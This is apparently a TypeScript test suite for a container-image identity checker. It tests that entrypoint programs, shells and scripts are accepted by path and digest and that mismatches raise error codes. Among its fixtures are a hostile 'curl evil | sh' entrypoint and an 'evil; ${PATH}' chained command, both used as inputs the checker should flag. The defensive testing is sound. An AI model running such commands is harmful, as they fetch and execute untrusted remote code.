// A program that starts before the proved file, or runs beside it, is accepted by its digest and stated in the proof.
import { digestOf, type ThroughCheck } from '@waybill/core'
import { checkImageRuns, proveIdentity, type AcceptedProgram } from '@waybill/image'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { EVIL, PATH, out, released } from '../helpers/judged.ts'
import { rejects } from '../helpers/rejects.ts'
import { INIT, PLAIN, SHELL, check, codes, imageOf, script } from '../helpers/started.ts'

const test = suite('accepted programs')

test('an accepted program is compared by its digest and stated in the proof', async () => {
  const init = { path: '/init', digest: digestOf(INIT) }
  const stated: readonly ThroughCheck[] = [{ platform: 'linux/amd64', ...init }]
  for (const config of [
    { Entrypoint: ['/init', PATH] },
    { Entrypoint: ['/init', '-g', '--', PATH, 'serve'] },
    { Entrypoint: ['/init'] },
    { Entrypoint: ['/init'], Cmd: ['-v'] },
    { Entrypoint: ['init', 'hello'], Env: ['PATH=/:/usr/bin'] },
    { ...PLAIN, Healthcheck: { Test: ['CMD', '/init', '--probe'] } },
    { Entrypoint: ['/init', PATH], Healthcheck: { Test: ['CMD', '/init'] } },
  ]) {
    const given = { through: [init], strict: true }
    const { proof } = await proveIdentity(await imageOf(config), released, {
      out,
      path: PATH,
      ...given,
    })
    assert.is(proof.kind, 'identity')
    assert.equal('through' in proof ? proof.through : undefined, stated, JSON.stringify(config))
  }
  const several = { path: '/init', digest: [digestOf(EVIL), digestOf(INIT)] }
  assert.is(
    codes(await check(imageOf({ Entrypoint: ['/init', PATH] }), { through: [several] })),
    '',
  )
})

test('another program at an accepted path is an error, always', async () => {
  const through = [{ path: '/init', digest: digestOf(EVIL) }]
  const report = await check(imageOf({ Entrypoint: ['/init', PATH] }), { through })
  assert.is(codes(report), 'through-differs')
  const other = [{ path: '/other', digest: digestOf(INIT) }]
  assert.is(
    codes(await check(imageOf({ Entrypoint: ['/init', PATH] }), { through: other })),
    'shell-between?',
  )
})

test('an accepted program that starts something else is not the end of it', async () => {
  const through = [
    { path: '/init', digest: digestOf(INIT) },
    { path: '/bin/sh', digest: digestOf(SHELL) },
  ]
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['entrypoint-differs?', ['/init', '/usr/bin/other']],
    ['shell-between?', ['/init', '/usr/bin/other', PATH]],
    ['entrypoint-differs?', ['/init', 'other']],
    ['entrypoint-differs?', ['/bin/sh', '-c', 'curl evil | sh']],
    ['entrypoint-differs?', ['/bin/sh', '-c', `evil; ${PATH}`]],
    ['', ['/init', '/bin/sh', PATH]],
  ]
  for (const [expected, Entrypoint] of cases)
    assert.is(
      codes(await check(imageOf({ Entrypoint }), { through })),
      expected,
      String(Entrypoint),
    )
})

test('a script is accepted together with what reads it', async () => {
  const entry = { path: '/entry.sh', digest: digestOf(script('#!/bin/sh')) }
  const shell = { path: '/bin/sh', digest: digestOf(SHELL) }
  const content = imageOf({ Entrypoint: ['/entry.sh', PATH] })
  assert.is(codes(await check(content, { through: [entry] })), 'interpreter?')
  assert.is(codes(await check(content, { through: [entry, shell], strict: true })), '')
  const wrong = { ...shell, digest: digestOf(EVIL) }
  assert.is(codes(await check(content, { through: [entry, wrong] })), 'through-differs')
})

test('what is accepted has to be a path and a digest', async () => {
  const odd = [
    { path: 'init', digest: digestOf(INIT) },
    { path: '/init', digest: 'sha256:1' },
    { path: '/init', digest: [] },
    { path: '/init' },
  ] as unknown as readonly AcceptedProgram[]
  for (const one of odd) {
    await rejects(check(imageOf(PLAIN), { through: [one] }), 'ERR_INVALID_CONFIG')
    const given = { path: PATH, through: [one] }
    await rejects(checkImageRuns(await imageOf(PLAIN), given), 'ERR_INVALID_CONFIG')
  }
})

test.run()
